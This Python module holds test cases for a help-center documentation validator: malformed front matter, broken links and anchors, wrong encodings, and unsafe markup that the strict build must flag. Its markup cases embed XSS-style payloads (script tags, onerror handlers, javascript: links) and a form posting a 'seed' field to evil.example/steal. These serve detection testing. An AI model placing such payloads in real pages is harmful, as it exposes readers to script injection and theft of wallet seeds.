"""The mistake catalog, as data: realistic mistakes a writer or translator makes, and valid-but-unusual inputs.

Every case is a small change to one fixture help center (not the demo): two languages, a category with three
articles, announcements, a search page and a support channels file. A bad case names the finding it must produce
(code, file, line); a good case must build strictly without any warning or error.
tests/validation/test_mistake_catalog.py builds every case with `mkdocs build --strict` and runs
`scripts/check.py` on it.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import yaml
from validation_cases import ARTICLE_FRONT, article, front

from helpcenter.adapter.site_config import project_hooks

ROOT = Path(__file__).resolve().parents[2]
BUILD_DATE = "2026-11-21"  # tests/conftest.py sets HC_BUILD_DATE to this day


JA_FRONT = ("title: 2FA を有効にするには?", "description: 二段階認証の手順。", "tags: [2fa]", "updated: 2026-10-14")


def meta_with(*extra: str, drop: tuple[str, ...] = ()) -> tuple[str, ...]:
    """The default article front matter without the keys in ``drop``, plus ``extra`` lines at its end."""
    return (*(line for line in ARTICLE_FRONT if line.split(":", 1)[0] not in drop), *extra)


TURN_ON = "## Turn it on { #turn-on }"
# the article most cases change: it has no translation, so changing its headings changes no translation's state
EN = "docs/en/security/passkeys.md"
# an article and its Japanese translation, for the cases about translations
PAIR = "docs/en/security/enable-2fa.md"
JA = "docs/ja/security/enable-2fa.md"
EN_CATEGORY = "docs/en/security/index.md"
CHANNELS = "data/support-channels.yml"
# the catalog's own copy (the demo's file goes with the demo when scripts/init_site.py replaces it)
CHANNELS_TEXT = (Path(__file__).parent / "fixture_channels.yml").read_text(encoding="utf-8")

# the fixture help center: paths relative to the project folder
FIXTURE: dict[str, str | bytes] = {
    "docs/en/index.md": front("title: Help"),
    "docs/en/search.md": front("title: Search", "template: search.html", "hide: [navigation, toc]"),
    EN_CATEGORY: front("title: Security", "description: Keep your account safe.", "icon: material/shield"),
    PAIR: article(TURN_ON, "", "1. Open **Security**.", "", "See [lost 2FA](lost-2fa.md#recover)."),
    "docs/en/security/lost-2fa.md": article(
        "## Recover { #recover }",
        "",
        "Ask support.",
        meta=("title: I lost my 2FA", "description: What to do.", "tags: [2fa]", "updated: 2026-10-14"),
    ),
    EN: article(
        "## Add a passkey { #add-a-passkey }",
        "",
        "Open **Security**, then **Passkeys**.",
        meta=(
            "title: Use a passkey",
            "description: Sign in without a password.",
            "tags: [passkey]",
            "updated: 2026-09-01",
        ),
    ),
    "docs/en/security/shot.png": b"\x89PNG\r\n\x1a\n not really a picture, but a file",
    "docs/en/announcements/index.md": front("title: Announcements", "description: News.", "icon: material/bullhorn"),
    "docs/en/announcements/maintenance.md": front(
        "title: Wallet maintenance",
        "description: Deposits pause for an hour.",
        "type: maintenance",
        "date: 2026-11-01",
    )
    + "\nDeposits pause on **1 November** for an hour.\n",
    "docs/ja/index.md": front("title: ヘルプ"),
    "docs/ja/search.md": front("title: 検索", "template: search.html", "hide: [navigation, toc]"),
    "docs/ja/security/index.md": front(
        "title: セキュリティ", "description: アカウントを守る。", "icon: material/shield"
    ),
    JA: article("## 有効にする { #turn-on }", "", "1. **セキュリティ** を開きます。", meta=JA_FRONT),
    CHANNELS: CHANNELS_TEXT,
}


def write_fixture(root: Path, changes: dict[str, str | bytes | None] | None = None) -> Path:
    """The fixture help center with ``changes`` (a path's new text or bytes; None deletes it); its mkdocs.yml."""
    files = {**FIXTURE, **(changes or {})}
    for rel, content in files.items():
        if content is None:
            continue
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_bytes(content.encode("utf-8"))
    config = {
        "INHERIT": str(ROOT / "mkdocs.yml"),
        "site_name": "Fixture Help",
        "site_url": "https://help.fixture.example/",
        "docs_dir": "docs",
        "theme": {"custom_dir": str(ROOT / "overrides")},
        "hooks": [str(path) for path in project_hooks(ROOT / "mkdocs.yml")],
        "watch": [],
        "plugins": [
            {
                "i18n": {
                    "docs_structure": "folder",
                    "fallback_to_default": True,
                    "languages": [
                        {"locale": "en", "name": "English", "default": True, "build": True},
                        {"locale": "ja", "name": "日本語", "build": True},
                    ],
                }
            }
        ],
        "extra": {
            "helpcenter": {
                "brand": "Fixture",
                "support_channels": CHANNELS,
                "freeze_article": "security/lost-2fa.md",
                # orphaned translations and heading ids that differ fail; untranslated pages are reported only
                "translations": {
                    "fail": ["orphaned", "anchors"],
                    "critical_categories": [],
                    "fail_in_critical": [],
                },
                "content": {"heading_ids": "required", "required_article_keys": ["description", "tags", "updated"]},
            }
        },
    }
    path = root / "mkdocs.yml"
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    return path


@dataclass(frozen=True)
class Mistake:
    """A bad input: the strict build fails with a WARNING or ERROR line ``path:line:... code``."""

    name: str
    group: str
    changes: dict[str, str | bytes | None]
    code: str
    path: str
    line: int
    # other codes the same mistake may rightly produce as warnings or errors (anything else is a false finding)
    also: tuple[str, ...] = ()
    words: tuple[str, ...] = field(default_factory=tuple)  # parts of the message that must be there


@dataclass(frozen=True)
class Valid:
    """A valid but unusual input: the strict build passes with no warning or error at all."""

    name: str
    group: str
    changes: dict[str, str | bytes | None]


def en(*body: str, meta: tuple[str, ...] = ARTICLE_FRONT) -> dict[str, str]:
    """The (untranslated) English article replaced by one with ``body`` (from line 8) and ``meta``."""
    return {EN: article(*body, meta=meta)}


def channels(old: str, new: str, count: int = 1) -> dict[str, str]:
    assert old in CHANNELS_TEXT, old
    return {CHANNELS: CHANNELS_TEXT.replace(old, new, count)}


def channels_line(old: str, new: str, needle: str | None = None) -> int:
    """The line of ``needle`` (default: the new text) in the channels file after the change."""
    text = CHANNELS_TEXT.replace(old, new, 1)
    before = text[: text.index(needle or new)]
    return before.count("\n") + 1


def extra_articles(count: int) -> dict[str, str]:
    return {
        f"docs/en/security/extra-{i}.md": article(
            f"## Part {i} {{ #part-{i} }}",
            "",
            "Text.",
            meta=(f"title: Extra {i}", "description: More.", "tags: [x]", "updated: 2026-10-14"),
        )
        for i in range(1, count + 1)
    }


LATIN_1 = article(TURN_ON, "", "Déjà vu: the café's crème brûlée.").encode("latin-1")

MISTAKES: list[Mistake] = [
    # --- front matter ---------------------------------------------------------------------------------------------
    Mistake(
        "yaml-colon-in-value",
        "front matter",
        {EN: front("title: ok", "description: bad: colon", "tags: [a]", "updated: 2026-10-14")},
        "HC100",
        EN,
        3,
        words=("invalid YAML",),
    ),
    Mistake("front-matter-not-closed", "front matter", {EN: "---\ntitle: x\n\nBody\n"}, "HC100", EN, 1),
    Mistake(
        "front-matter-tab-indent",
        "front matter",
        {EN: front("title: T", "description: D", "tags:", "\t- 2fa", "updated: 2026-10-14")},
        "HC100",
        EN,
        5,
        words=("tab",),
    ),
    Mistake("front-matter-is-a-list", "front matter", {EN: front("- title", "- tags")}, "HC100", EN, 2),
    Mistake(
        "duplicate-key",
        "front matter",
        en("Body", meta=meta_with("title: Turn on 2FA")),
        "HC110",
        EN,
        6,
        words=("'title' is given twice", "line 2"),
    ),
    Mistake(
        "unknown-key", "front matter", en("Body", meta=meta_with("tittle: Typo")), "HC102", EN, 6, words=("title",)
    ),
    Mistake("order-not-a-number", "front matter", en("Body", meta=meta_with("order: first")), "HC103", EN, 6),
    Mistake(
        "date-not-iso",
        "front matter",
        en("Body", meta=meta_with('updated: "14/10/2026"', drop=("updated",))),
        "HC105",
        EN,
        5,
    ),
    Mistake(
        "impossible-date",
        "front matter",
        en("Body", meta=meta_with("updated: 2026-13-01", drop=("updated",))),
        "HC105",
        EN,
        5,
    ),
    Mistake(
        "updated-years-ahead",
        "front matter",
        en("Body", meta=meta_with("updated: 2031-10-14", drop=("updated",))),
        "HC112",
        EN,
        5,
        words=("2031-10-14", BUILD_DATE),
    ),
    Mistake("updated-and-date", "front matter", en("Body", meta=meta_with("date: 2026-10-01")), "HC111", EN, 6),
    Mistake(
        "title-over-120",
        "front matter",
        en("Body", meta=("title: " + "T" * 121, *ARTICLE_FRONT[1:])),
        "HC104",
        EN,
        2,
        words=("121 characters", "120"),
    ),
    Mistake("title-empty", "front matter", en("Body", meta=('title: ""', *ARTICLE_FRONT[1:])), "HC104", EN, 2),
    Mistake(
        "description-over-160",
        "front matter",
        en("Body", meta=(ARTICLE_FRONT[0], "description: " + "d" * 161, *ARTICLE_FRONT[2:])),
        "HC104",
        EN,
        3,
    ),
    Mistake(
        "seven-tags",
        "front matter",
        en("Body", meta=meta_with("tags: [a, b, c, d, e, f, g]", drop=("tags",))),
        "HC104",
        EN,
        5,
    ),
    Mistake(
        "tag-over-40",
        "front matter",
        en("Body", meta=meta_with("tags: [" + "t" * 41 + "]", drop=("tags",))),
        "HC104",
        EN,
        5,
    ),
    Mistake(
        "six-related",
        "front matter",
        {
            **extra_articles(6),
            **en("Body", meta=meta_with("related:", *[f"  - security/extra-{i}.md" for i in range(1, 7)])),
        },
        "HC104",
        EN,
        6,
    ),
    Mistake(
        "related-twice",
        "front matter",
        en("Body", meta=meta_with("related:", "  - security/lost-2fa.md", "  - security/lost-2fa.md")),
        "HC107",
        EN,
        8,
    ),
    Mistake(
        "related-typo",
        "front matter",
        en("Body", meta=meta_with("related:", "  - security/lost-2fx.md")),
        "HC106",
        EN,
        7,
        words=("did you mean 'security/lost-2fa.md'",),
    ),
    Mistake(
        "related-itself",
        "front matter",
        en("Body", meta=meta_with("related: [security/passkeys.md]")),
        "HC106",
        EN,
        6,
    ),
    Mistake(
        "related-on-category",
        "front matter",
        {EN_CATEGORY: front("title: Security", "description: Safe.", "icon: material/shield", "related: [x.md]")},
        "HC108",
        EN_CATEGORY,
        5,
    ),
    Mistake(
        "hide-typo",
        "front matter",
        en("Body", meta=meta_with("hide: [tocc]")),
        "HC109",
        EN,
        6,
        words=("did you mean 'toc'",),
    ),
    Mistake(
        "icon-not-a-shortcode",
        "front matter",
        {EN_CATEGORY: front("title: Security", "description: Safe.", "icon: shield")},
        "HC109",
        EN_CATEGORY,
        4,
    ),
    Mistake(
        "icon-that-does-not-exist",
        "front matter",
        {EN_CATEGORY: front("title: Security", "description: Safe.", "icon: material/shield-lockk")},
        "HC109",
        EN_CATEGORY,
        4,
        words=("not an icon of the theme",),
    ),
    Mistake(
        "required-tags-missing",
        "front matter",
        en("Body", meta=meta_with(drop=("tags",))),
        "HC101",
        EN,
        1,
        words=("'tags'", "required_article_keys"),
    ),
    Mistake(
        "title-and-body-h1",
        "front matter",
        en("# How do I turn on 2FA?", "", TURN_ON, "", "Text."),
        "HC114",
        EN,
        8,
        words=("two titles",),
    ),
    # --- announcements --------------------------------------------------------------------------------------------
    Mistake(
        "announcement-unknown-type",
        "announcements",
        {
            "docs/en/announcements/maintenance.md": front(
                "title: Wallet maintenance", "description: Pause.", "type: outage", "date: 2026-11-01"
            )
        },
        "HC109",
        "docs/en/announcements/maintenance.md",
        4,
        words=("'outage'", "maintenance"),
    ),
    Mistake(
        "announcement-without-date",
        "announcements",
        {
            "docs/en/announcements/maintenance.md": front(
                "title: Wallet maintenance", "description: Pause.", "type: maintenance"
            )
        },
        "HC101",
        "docs/en/announcements/maintenance.md",
        1,
        words=("'date'",),
    ),
    Mistake(
        "announcement-bad-expiry",
        "announcements",
        {
            "docs/en/announcements/maintenance.md": front(
                "title: Wallet maintenance",
                "description: Pause.",
                "type: maintenance",
                "date: 2026-11-01",
                "expires: next week",
            )
        },
        "HC105",
        "docs/en/announcements/maintenance.md",
        6,
    ),
    Mistake(
        "announcement-pinned-yes",
        "announcements",
        {
            "docs/en/announcements/maintenance.md": front(
                "title: Wallet maintenance",
                "description: Pause.",
                "type: maintenance",
                "date: 2026-11-01",
                'pinned: "yes"',
            )
        },
        "HC103",
        "docs/en/announcements/maintenance.md",
        6,
    ),
    # --- encodings ------------------------------------------------------------------------------------------------
    Mistake("latin-1-article", "encodings", {EN: LATIN_1}, "HC120", EN, 10, words=("not UTF-8", "cp1252")),
    Mistake(
        "shift-jis-translation",
        "encodings",
        {JA: article("## 有効にする { #turn-on }", "", "手順です。", meta=JA_FRONT).encode("shift_jis")},
        "HC120",
        JA,
        2,
        words=("not UTF-8", "932"),
    ),
    Mistake(
        "utf-16-category", "encodings", {EN_CATEGORY: FIXTURE[EN_CATEGORY].encode("utf-16")}, "HC120", EN_CATEGORY, 1
    ),
    # --- files and folders ----------------------------------------------------------------------------------------
    Mistake(
        "article-outside-category",
        "files",
        {
            "docs/en/reset-password.md": article(
                "## Reset { #reset }", "", "Text.", meta=("title: Reset", *ARTICLE_FRONT[1:])
            )
        },
        "HC121",
        "docs/en/reset-password.md",
        4,
    ),
    Mistake(
        "page-under-api-language",
        "files",
        {"docs/en/api/ja/keys.md": article("## Keys { #keys }", "", "Text.", meta=("title: Keys", *ARTICLE_FRONT[1:]))},
        "HC122",
        "docs/en/api/ja/keys.md",
        1,
        words=("api/ja/",),
    ),
    Mistake(
        "page-under-the-search-index",
        "files",
        {"docs/en/search/tips.md": article("## Tips { #tips }", "", "Text.", meta=("title: Tips", *ARTICLE_FRONT[1:]))},
        "HC122",
        "docs/en/search/tips.md",
        1,
        words=("search/",),
    ),
    Mistake(
        "page-in-another-languages-folder",
        "files",
        {"docs/en/ja/security/x.md": article("## X { #x }", "", "Text.", meta=("title: X", *ARTICLE_FRONT[1:]))},
        "HC122",
        "docs/en/ja/security/x.md",
        1,
    ),
    Mistake(
        "page-named-like-a-generated-one",
        "files",
        {"docs/en/translation-status.md": front("title: Status") + "\nAll good.\n"},
        "HC122",
        "docs/en/translation-status.md",
        1,
    ),
    Mistake(
        "orphaned-translation",
        "files",
        {"docs/ja/security/old-page.md": article("## 古い { #old }", "", "古い。", meta=JA_FRONT)},
        "TR003",
        "docs/ja/security/old-page.md",
        1,
    ),
    # --- links and anchors ----------------------------------------------------------------------------------------
    Mistake("link-to-missing-page", "links", en("See [the fees](../fees/trading.md)."), "HC201", EN, 8),
    Mistake("link-to-folder", "links", en("", "See [security](../security/)."), "HC201", EN, 9),
    Mistake("absolute-link-missing", "links", en("See [x](/security/nope.md)."), "HC201", EN, 8),
    Mistake("link-outside-docs", "links", en("See [x](../../../README.md)."), "HC201", EN, 8),
    Mistake("anchor-typo-same-page", "links", en(TURN_ON, "", "Go [up](#turn-of)."), "HC202", EN, 10),
    Mistake("anchor-typo-other-page", "links", en("Read [recovery](lost-2fa.md#recovery)."), "HC203", EN, 8),
    Mistake("reference-undefined", "links", en("Text.", "", "Read [the guide][guide]."), "HC204", EN, 10),
    Mistake("footnote-undefined", "links", en("Text.", "", "Codes expire.[^expiry]"), "HC217", EN, 10),
    Mistake("html-link-missing", "links", en('<p><a href="../nope/">Nope</a></p>'), "HC201", EN, 8),
    Mistake("html-link-to-md", "links", en('<p><a href="lost-2fa.md">Lost</a></p>'), "HC213", EN, 8),
    Mistake("html-anchor-missing", "links", en('<p><a href="../lost-2fa/#nothere">Lost</a></p>'), "HC203", EN, 8),
    Mistake("image-missing", "links", en("Intro.", "", "![Screen](missing.png)"), "HC205", EN, 10),
    Mistake("html-image-missing", "links", en('<p><img src="../nope.png" alt="Nope"></p>'), "HC205", EN, 8),
    Mistake("image-without-alt", "links", en("![](shot.png)"), "HC206", EN, 8),
    Mistake("link-without-text", "links", en("Click [](lost-2fa.md)."), "HC207", EN, 8),
    Mistake(
        "image-over-http",
        "links",
        en("Intro.", "", "![Screen](http://cdn.example.com/screen.png)"),
        "HC218",
        EN,
        10,
        words=("mixed content",),
    ),
    Mistake("image-from-other-host", "links", en("![Screen](https://cdn.example.com/s.png)"), "HC218", EN, 8),
    Mistake(
        "translation-links-untranslated",
        "links",
        {JA: article("## 有効にする { #turn-on }", "", "[2FA を紛失](lost-2fa.md) を参照。", meta=JA_FRONT)},
        "HC209",
        JA,
        10,
    ),
    Mistake("snippet-missing", "links", en("Intro.", "", '--8<-- "docs/en/security/nothing.md"'), "HC211", EN, 10),
    Mistake("snippet-outside-docs", "links", en("Intro.", "", '--8<-- "mkdocs.yml"'), "HC212", EN, 10),
    # --- headings -------------------------------------------------------------------------------------------------
    Mistake(
        "heading-level-skip",
        "headings",
        en("## Steps { #steps }", "", "#### Detail { #detail }", "", "Text."),
        "HC208",
        EN,
        10,
    ),
    Mistake("heading-without-id", "headings", en(TURN_ON, "", "## If it fails", "", "Text."), "HC214", EN, 10),
    Mistake(
        "heading-id-not-a-slug",
        "headings",
        en("## Choose a nickname { #Choose_Nickname }", "", "Text."),
        "HC215",
        EN,
        8,
        words=("choose-nickname",),
    ),
    Mistake(
        "heading-ids-twice",
        "headings",
        en("## Turn it on { #steps }", "", "Text.", "", "## Turn it off { #steps }", "", "Text."),
        "HC216",
        EN,
        12,
    ),
    Mistake(
        "second-h1-without-front-matter-title",
        "headings",
        {"docs/en/about.md": "# About us\n\nWe help.\n\n# Our team\n\nPeople.\n"},
        "HC114",
        "docs/en/about.md",
        5,
    ),
    Mistake(
        "translated-heading-id",
        "headings",
        {JA: article("## 有効にする { #yuukou-ni-suru }", "", "手順。", meta=JA_FRONT)},
        "TR004",
        JA,
        8,
    ),
    Mistake(
        "admonition-title-quote-open",
        "headings",
        en("Text.", "", '!!! warning "Keep your codes safe', "    Never share them."),
        "HC219",
        EN,
        10,
    ),
    Mistake(
        "details-title-quote-open",
        "headings",
        en("Text.", "", '??? note "More detail', "    Hidden text."),
        "HC219",
        EN,
        10,
    ),
    # --- embedded markup ------------------------------------------------------------------------------------------
    Mistake("script", "markup", en("Text.", "", "<script>alert(1)</script>"), "HC301", EN, 10),
    Mistake(
        "script-in-md-in-html",
        "markup",
        en("<div markdown>", "Text.", "<script>x()</script>", "</div>"),
        "HC301",
        EN,
        10,
    ),
    Mistake(
        "handler-in-html",
        "markup",
        en('<p><img src="../shot.png" alt="Shot" onerror="alert(1)"></p>'),
        "HC302",
        EN,
        8,
    ),
    Mistake("handler-in-attr-list", "markup", en("Text.", "", '[Click](#){ onclick="alert(1)" }'), "HC302", EN, 10),
    Mistake("javascript-link", "markup", en("Text.", "", "[Click](javascript:alert(1))"), "HC303", EN, 10),
    Mistake("javascript-link-mixed-case", "markup", en("[Click](JaVaScRiPt:alert(1))"), "HC303", EN, 8),
    Mistake("vbscript-html-link", "markup", en('<p><a href="vbscript:msgbox(1)">Run</a></p>'), "HC303", EN, 8),
    Mistake("data-url-image", "markup", en("![Dot](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"), "HC303", EN, 8),
    Mistake("data-url-link", "markup", en("Text.", "", "[Open](data:text/html,<b>hi</b>)"), "HC303", EN, 10),
    Mistake("reserved-id", "markup", en("Text.", "", "Config", "{ #__config }"), "HC305", EN, 11),
    Mistake(
        "iframe-other-host",
        "markup",
        en("Text.", "", '<iframe src="https://evil.example/embed"></iframe>'),
        "HC304",
        EN,
        10,
    ),
    Mistake("iframe-without-src", "markup", en('<iframe title="x"></iframe>'), "HC304", EN, 8),
    Mistake("object-element", "markup", en('<object data="movie.swf"></object>'), "HC306", EN, 8),
    Mistake(
        "form",
        "markup",
        en("Text.", "", '<form action="https://evil.example/steal"><input name="seed"></form>'),
        "HC306",
        EN,
        10,
    ),
    Mistake("style-attribute", "markup", en('<p style="color: red">Red</p>'), "HC306", EN, 8),
    Mistake("embed-element", "markup", en("Text.", "", '<embed src="x.swf">'), "HC306", EN, 10),
    # --- support data ---------------------------------------------------------------------------------------------
    Mistake(
        "channels-yaml-broken",
        "support",
        channels("    kind: chat\n", "    kind: chat\n   name: [\n"),
        "SUP100",
        CHANNELS,
        channels_line("    kind: chat\n", "    kind: chat\n   name: [\n", "   name: ["),
    ),
    Mistake(
        "channels-unknown-kind",
        "support",
        channels("    kind: chat\n", "    kind: chatbot\n"),
        "SUP110",
        CHANNELS,
        channels_line("    kind: chat\n", "    kind: chatbot\n", "kind: chatbot"),
    ),
    Mistake(
        "channels-http-url",
        "support",
        channels("url: https://www.corvexa.example/support/chat", "url: http://www.corvexa.example/support/chat"),
        "SUP104",
        CHANNELS,
        channels_line("url: https://www.corvexa.example/support/chat", "url: http://www.corvexa.example/support/chat"),
    ),
    Mistake(
        "channels-bad-time-zone",
        "support",
        channels("time_zone: Asia/Tokyo", "time_zone: Tokyo"),
        "SUP130",
        CHANNELS,
        channels_line("time_zone: Asia/Tokyo", "time_zone: Tokyo"),
    ),
    Mistake(
        "channels-unknown-topic",
        "support",
        channels("topic_fallback: other", "topic_fallback: misc"),
        "SUP140",
        CHANNELS,
        channels_line("topic_fallback: other", "topic_fallback: misc"),
    ),
]


KITCHEN_SINK = textwrap.dedent(
    """\
    ## Overview { #overview }

    !!! note "Note"
        Admonition with `code`.

    ??? tip "Details"
        Hidden text.

    ???+ warning
        Open by default, no title.

    === "First"
        Tab one.

    === "Second"
        Tab two.

    | Left | Right |
    | :--- | ----: |
    | a    | b     |

    ```python
    print("hi")
    ```

    ```mermaid
    flowchart TD
        A --> B
    ```

    - [x] done
    - [ ] open

    Term
    :   Definition with a footnote.[^1] The HTML spec.

    *[HTML]: Hyper Text Markup Language

    [^1]: The note.
    """
)

VALID: list[Valid] = [
    Valid("crlf-line-endings", "encodings", {EN: FIXTURE[EN].replace("\n", "\r\n")}),
    Valid("utf-8-bom", "encodings", {EN: "\ufeff" + FIXTURE[EN]}),
    Valid(
        "rtl-text-and-emoji",
        "encodings",
        en(
            TURN_ON,
            "",
            "مرحبًا بك في مركز المساعدة — שלום 👋🏽 🔐 نفّذ الخطوات بالترتيب.",
            "",
            '<p dir="rtl" lang="ar">افتح <strong>الأمان</strong> ثم فعّل المصادقة الثنائية.</p>',
            meta=("title: 🔐 تفعيل المصادقة الثنائية 2FA", *ARTICLE_FRONT[1:]),
        ),
    ),
    Valid(
        "deep-lists",
        "markdown",
        en(
            TURN_ON,
            "",
            *[("    " * depth) + f"{depth + 1}. Level {depth + 1}" for depth in range(8)],
            "",
            "- a",
            "    - b",
            "        - c",
            "            - d",
        ),
    ),
    Valid(
        "code-blocks-with-markup",
        "markdown",
        en(
            TURN_ON,
            "",
            "```html",
            '<script>alert(1)</script><iframe src="https://evil.example"></iframe>',
            '<a href="javascript:x()">x</a> <img src="http://cdn.example/x.png">',
            "```",
            "",
            "~~~markdown",
            "# Not a title",
            "## No id here",
            "[broken](nope.md) ![](missing.png) [ref][nowhere] [^nonote]",
            '!!! warning "never closed',
            "~~~",
            "",
            "````text",
            "```",
            "### still code",
            "```",
            "````",
            "",
            "    <script>indented code</script> [x](gone.md)",
        ),
    ),
    Valid(
        "inline-code-with-markup",
        "markdown",
        en(TURN_ON, "", "Type `[x](nope.md)`, `<script>`, `[^1]`, `{ #Bad_Id }` and ``a `tick` [y][z]`` as they are."),
    ),
    Valid(
        "html-comments",
        "markdown",
        en(
            TURN_ON,
            "",
            "<!-- TODO: link [the fees](../fees/missing.md) and <script>alert(1)</script> -->",
            "",
            "Text <!-- ![](gone.png) --> continues.",
            "",
            "<!--",
            "## Hidden heading",
            "-->",
        ),
    ),
    Valid(
        "non-ascii-file-names",
        "files",
        {
            "docs/en/security/désactiver-2fa.md": article(
                "## Étapes { #steps }", "", "Texte.", meta=("title: Désactiver la 2FA", *ARTICLE_FRONT[1:])
            ),
            "docs/en/security/二段階認証.md": article(
                "## 手順 { #steps }", "", "本文。", meta=("title: 二段階認証", *ARTICLE_FRONT[1:])
            ),
            **en(
                TURN_ON,
                "",
                "See [désactiver](désactiver-2fa.md#steps) and [二段階](二段階認証.md)",
                "and [encoded](d%C3%A9sactiver-2fa.md).",
            ),
        },
    ),
    Valid(
        "values-at-every-limit",
        "front matter",
        {
            **extra_articles(5),
            **en(
                TURN_ON,
                meta=(
                    "title: " + "T" * 120,
                    "description: " + "d" * 160,
                    "tags: [" + ", ".join(f"{chr(97 + i)}" * 40 for i in range(6)) + "]",
                    "updated: " + BUILD_DATE,
                    "order: 0",
                    "related:",
                    *[f"  - security/extra-{i}.md" for i in range(1, 6)],
                ),
            ),
        },
    ),
    Valid(
        "updated-tomorrow-in-tokyo",
        "front matter",
        en(TURN_ON, meta=meta_with("updated: 2026-11-22", drop=("updated",))),
    ),
    Valid(
        "date-instead-of-updated", "front matter", en(TURN_ON, meta=meta_with("date: 2026-10-14", drop=("updated",)))
    ),
    Valid(
        "yaml-forms",
        "front matter",
        en(
            TURN_ON,
            meta=(
                "# a comment line",
                'title: "How do I turn on 2FA? (it takes: 2 minutes)"',
                "description: >-",
                "  Steps to turn on",
                "  two-factor authentication.",
                "tags:",
                "  - 2fa",
                "  - 'security: basics'",
                "updated: '2026-10-14'",
                "promoted: true",
                "hide: [toc]",
            ),
        ),
    ),
    Valid(
        "title-from-body-h1",
        "front matter",
        {"docs/en/about.md": "# About us\n\nWe answer questions.\n\n## Contact { #contact }\n\nWrite to us.\n"},
    ),
    Valid(
        "no-front-matter-page-with-heading-levels",
        "headings",
        {
            "docs/en/guide.md": "# Guide\n\n## One { #one }\n\n### Two { #two }\n\n#### Three { #three }\n\n"
            "##### Four { #four }\n\n###### Five { #five }\n\nEnd.\n"
        },
    ),
    Valid(
        "headings-with-markup-and-digits",
        "headings",
        en(
            "## Step 2: **verify** `code` 🔑 { #step-2 }",
            "",
            "Text.",
            "",
            "## Step 2: **verify** `code` 🔑 { #step-2-again }",
            "",
            "Text [back](#step-2).",
        ),
    ),
    Valid("category-without-index", "files", {"docs/en/fees/withdrawal-fee.md": article(TURN_ON, "", "Fees.")}),
    Valid("kitchen-sink", "markdown", en(KITCHEN_SINK)),
    Valid(
        "allowed-html",
        "markup",
        en(
            TURN_ON,
            "",
            "<details><summary>More</summary><p>Inside <kbd>Ctrl</kbd>+<kbd>C</kbd>, "
            '<abbr title="two-factor">2FA</abbr>.</p></details>',
            "",
            '<table><thead><tr><th style="text-align: right">A</th></tr></thead>',
            "<tbody><tr><td>1</td></tr></tbody></table>",
        ),
    ),
    Valid(
        "links-of-every-kind",
        "links",
        en(
            TURN_ON,
            "",
            "Write to [support](mailto:support@fixture.example), call [us](tel:+81345860100), read "
            "[the site](https://www.fixture.example/?a=1&b=2#top), [this step](#turn-on), "
            '[recovery](lost-2fa.md#recover "Recover your 2FA"), [the picture](shot.png), [ref][guide], '
            "[home](../index.md) and [passkeys](./passkeys.md).",
            "",
            "[guide]: lost-2fa.md",
        ),
    ),
    Valid(
        "translation-uses-english-image",
        "links",
        {
            JA: article(
                "## 有効にする { #turn-on }",
                "",
                "![画面](shot.png)",
                "",
                "[パスキー](passkeys.md#add-a-passkey)",
                meta=JA_FRONT,
            ),
            "docs/ja/security/passkeys.md": article(
                "## パスキーを追加 { #add-a-passkey }", "", "本文。", meta=JA_FRONT
            ),
        },
    ),
    Valid(
        "very-long-line",
        "markdown",
        en(TURN_ON, "", " ".join(["Word"] * 4000), "", "https://www.fixture.example/" + "a" * 2000),
    ),
    Valid("empty-body", "markdown", {EN: front(*ARTICLE_FRONT)}),
    Valid(
        "admonitions-of-every-form",
        "markdown",
        en(
            TURN_ON,
            "",
            '!!! danger "Never share your \\"codes\\" — or ‘seed’"',
            "    Body.",
            "",
            '!!! tip ""',
            "    No title bar.",
            "",
            '???+ note "Open"',
            "    Body.",
            "",
            "!!! info inline end",
            "    Side note.",
        ),
    ),
    Valid(
        "cjk-translation",
        "encodings",
        {
            JA: article(
                "## 有効にする { #turn-on }",
                "",
                "1. 「セキュリティ」を開きます（全角の括弧）。",
                "2. ＱＲコードを読み取ります。",
                meta=JA_FRONT,
            )
        },
    ),
]
